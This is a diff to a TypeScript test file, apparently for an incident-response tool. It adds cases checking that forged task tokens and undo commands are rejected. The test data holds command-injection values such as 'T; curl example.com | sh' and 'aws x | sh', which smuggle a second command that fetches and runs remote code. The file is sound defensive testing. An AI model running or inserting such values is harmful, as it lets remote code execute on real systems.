@@ -155,6 +155,19 @@ test('a step of a machine is reported with its error, and with the token that ap
   );
 });
 
+test.each([
+  ['a token', { taskToken: 'T; curl example.com | sh' }, /taskToken is no token/],
+  ['a command that takes it back', { undo: 'aws x; curl example.com' }, /undo of the plan is no command/],
+  ['another program', { undo: 'curl example.com' }, /undo of the plan is no command/],
+])(
+  'fails on a forged step with %s that would run something else',
+  (_name, { taskToken, undo }: { taskToken?: string; undo?: string }, message) => {
+    const plan = { ...toPlan(ALERT, 'start-logging'), ...(undo === undefined ? {} : { undo }) };
+    const step = { outcome: 'asked', plan, ...(taskToken === undefined ? {} : { taskToken }) } as const;
+    expect(() => toStepReport(step)).toThrow(message);
+  },
+);
+
 test('what takes it back is what the function that acted says, where it says something', () => {
   const plan = { ...toPlan(ALERT, 'isolate-instance'), undo: 'aws before' };
   const commandsOf = (result: unknown) => {
@@ -166,7 +179,7 @@ test('what takes it back is what the function that acted says, where it says som
     'Take it back: aws one',
     'Take it back: aws two',
   ]);
-  for (const result of [{}, { undo: [] }, { undo: 'aws' }, null]) {
+  for (const result of [{}, { undo: [] }, { undo: 'aws' }, { undo: ['aws x | sh', 'curl x'] }, null]) {
     expect(commandsOf(result)).toEqual(['Take it back: aws before']);
   }
 });
